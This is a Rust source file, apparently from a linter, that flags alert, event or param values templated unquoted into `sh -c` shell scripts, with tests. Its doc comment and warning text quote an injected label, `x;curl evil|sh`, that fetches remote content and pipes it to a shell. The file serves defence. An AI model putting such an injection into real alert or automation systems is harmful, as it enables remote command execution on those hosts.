//! Alert text that reaches a shell. `sh -c SCRIPT` parses SCRIPT as shell code, so a
//! value from `.alert`, `.event` or the params printed into it runs as commands: an
//! alert label `x;curl evil|sh` in `sh -c "redis-cli -h {{ .alert.labels.instance }}"`
//! runs curl. Doubling `$` (which every template print does) only stops Kubernetes'
//! `$(VAR)`; `quote` gives Go double quotes, inside which the shell still runs `$(...)`
//! and backticks. `shellQuote` (POSIX single quotes) makes the value one literal word,
//! provided it stands outside the script's own quotes.
//!
//! Lexical, like the rest of lint: a value copied into a variable first
//! (`{{ $x := .alert.y }}`) or ranged over is not followed.

use std::collections::BTreeSet;

use crate::engine::convert::refs;

/// Shells whose `-c` takes a script.
const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh"];

/// Context roots that carry text from outside: the alert, and the params (a Trigger
/// fills them from the alert).
const TAINTED: &[&str] = &["alert", "event", "params"];

/// The index in `argv` (command, then args) of the script a shell runs with `-c`,
/// if `argv` runs one: `sh -c S`, `/bin/bash -euc S`, `bash -o pipefail -c S`,
/// `env bash -c S`, `busybox sh -c S`.
pub(super) fn script_index(argv: &[&str]) -> Option<usize> {
    let base = |s: &str| s.rsplit('/').next().unwrap_or(s).to_string();
    let mut i = 0;
    while argv
        .get(i)
        .is_some_and(|a| matches!(base(a).as_str(), "env" | "busybox"))
    {
        i += 1;
    }
    if !SHELLS.contains(&base(argv.get(i)?).as_str()) {
        return None;
    }
    i += 1;
    let mut dash_c = false;
    while let Some(a) = argv.get(i) {
        match *a {
            "--" => {
                i += 1;
                break;
            }
            // Options that take a value: `-o pipefail`, `+o posix`.
            "-o" | "+o" | "-O" | "+O" => i += 2,
            _ if a.len() > 1 && (a.starts_with('-') || a.starts_with('+')) => {
                dash_c |= a.starts_with('-') && !a.starts_with("--") && a.contains('c');
                i += 1;
            }
            _ => break,
        }
    }
    (dash_c && i < argv.len()).then_some(i)
}

/// Warnings for one shell script (a template): each action that prints a value from
/// outside without `shellQuote`, or with it but inside the script's own quotes.
/// `params`: the declared params (also readable at the root, StackPulse style).
pub(super) fn script_problems(script: &str, params: &BTreeSet<String>) -> Vec<String> {
    let mut out = Vec::new();
    let mut quotes = QuoteState::default();
    let mut literal_from = 0;
    for (offset, body) in refs::actions(script) {
        // `offset` is just past `{{`; the text before it is the script's own.
        quotes.feed(&script[literal_from..offset.saturating_sub(2)]);
        literal_from = offset + body.len() + 2;
        let trimmed = body.trim_matches(|c: char| c == '-' || c.is_whitespace());
        let keyword = trimmed.split_whitespace().next().unwrap_or("");
        if matches!(
            keyword,
            "if" | "else" | "end" | "range" | "with" | "define" | "block" | "template"
        ) || trimmed.starts_with("/*")
            || trimmed.contains(":=")
        {
            continue;
        }
        let read = refs::root_paths(&format!("{{{{{body}}}}}"));
        let Some(tainted) = read.iter().find(|p| {
            p.segments
                .first()
                .is_some_and(|r| TAINTED.contains(&r.as_str()) || params.contains(r))
        }) else {
            continue;
        };
        let path = format!(".{}", tainted.segments.join("."));
        if !shell_quoted(trimmed) {
            out.push(format!(
                "prints {path} into a `-c` shell script unquoted: alert text such as `x;curl evil|sh` or `$(...)` would run as commands; write {{{{ {path} | shellQuote }}}} outside any quotes, or pass it as an arg after the script and use \"$1\""
            ));
        } else if let Some(q) = quotes.open {
            out.push(format!(
                "puts {{{{ shellQuote {path} }}}} inside the script's own {q} quotes, where its single quotes do not protect: remove the {q} around it"
            ));
        }
    }
    out
}

/// Whether an action's printed value comes out of `shellQuote`: the last stage of
/// its pipeline calls it (`shellQuote .x`, `.x | shellQuote`).
fn shell_quoted(action: &str) -> bool {
    let last = last_stage(action).trim();
    last == "shellQuote" || last.starts_with("shellQuote ")
}

/// The text after the last `|` outside string literals and parentheses.
fn last_stage(action: &str) -> &str {
    let b = action.as_bytes();
    let (mut depth, mut i, mut start) = (0i32, 0, 0);
    while i < b.len() {
        match b[i] {
            q @ (b'"' | b'`') => {
                i += 1;
                while i < b.len() && b[i] != q {
                    i += if q == b'"' && b[i] == b'\\' { 2 } else { 1 };
                }
            }
            b'(' => depth += 1,
            b')' => depth -= 1,
            b'|' if depth == 0 => start = i + 1,
            _ => {}
        }
        i += 1;
    }
    &action[start.min(action.len())..]
}

/// Whether the shell is inside single or double quotes at the end of the text fed.
#[derive(Default)]
struct QuoteState {
    open: Option<char>,
}

impl QuoteState {
    fn feed(&mut self, text: &str) {
        let mut chars = text.chars();
        while let Some(c) = chars.next() {
            match (self.open, c) {
                (None, '\\') | (Some('"'), '\\') => {
                    chars.next();
                }
                (None, '\'' | '"') => self.open = Some(c),
                (Some(q), c) if c == q => self.open = None,
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_the_script_a_shell_runs() {
        let table: &[(&[&str], Option<usize>)] = &[
            (&["sh", "-c", "S"], Some(2)),
            (&["/bin/bash", "-euc", "S", "arg0", "$1"], Some(2)),
            (&["bash", "-o", "pipefail", "-c", "S"], Some(4)),
            (&["/usr/bin/env", "bash", "-c", "S"], Some(3)),
            (&["busybox", "sh", "-c", "S"], Some(3)),
            (&["sh", "-e", "-c", "S"], Some(3)),
            // A script file, not a command string; no shell; -c with nothing after.
            (&["sh", "/scripts/run.sh", "-c"], None),
            (&["redis-cli", "-c", "S"], None),
            (&["sh", "-c"], None),
            (&["bash", "--norc", "S"], None),
            (&[], None),
        ];
        for (argv, want) in table {
            assert_eq!(script_index(argv), *want, "{argv:?}");
        }
    }

    #[test]
    fn warns_on_outside_text_not_shell_quoted() {
        let params: BTreeSet<String> = ["Host".to_string()].into();
        // (script, part of the warning; "" for none)
        let table = [
            (
                "redis-cli -h {{ .alert.labels.instance }}",
                "prints .alert.labels.instance into a `-c` shell script unquoted",
            ),
            ("echo {{ .event.Type }}", "prints .event.Type"),
            ("ping {{ .params.Host }}", "prints .params.Host"),
            ("ping {{ .Host }}", "prints .Host"),
            ("echo {{ $.alert.labels.x }}", "prints .alert.labels.x"),
            // Go double quotes leave $(...) and backticks live in the shell.
            ("echo {{ quote .alert.labels.x }}", "unquoted"),
            ("echo \"{{ .alert.labels.x }}\"", "unquoted"),
            ("echo {{ shellQuote .alert.labels.x | upper }}", "unquoted"),
            // shellQuote inside the script's own quotes does not protect.
            (
                "echo \"{{ .alert.labels.x | shellQuote }}\"",
                "inside the script's own \" quotes",
            ),
            (
                "echo '{{ shellQuote .alert.labels.x }}'",
                "inside the script's own ' quotes",
            ),
            // Fine: quoted; quotes closed before; not outside text; only a condition.
            ("redis-cli -h {{ .alert.labels.instance | shellQuote }}", ""),
            ("redis-cli -h {{ shellQuote .alert.labels.instance }}", ""),
            ("echo 'a' \"b\" {{ shellQuote .alert.labels.x }}", ""),
            ("echo {{ .steps.a.outputs.n }} {{ .execution.id }}", ""),
            ("{{ if eq .alert.status \"firing\" }}page{{ end }}", ""),
            ("echo \"$1\"", ""),
        ];
        for (script, want) in table {
            let got = script_problems(script, &params);
            if want.is_empty() {
                assert!(got.is_empty(), "{script:?}: {got:?}");
            } else {
                assert!(
                    got.len() == 1 && got[0].contains(want),
                    "{script:?}: want {want:?}, got {got:?}"
                );
            }
        }
    }
}
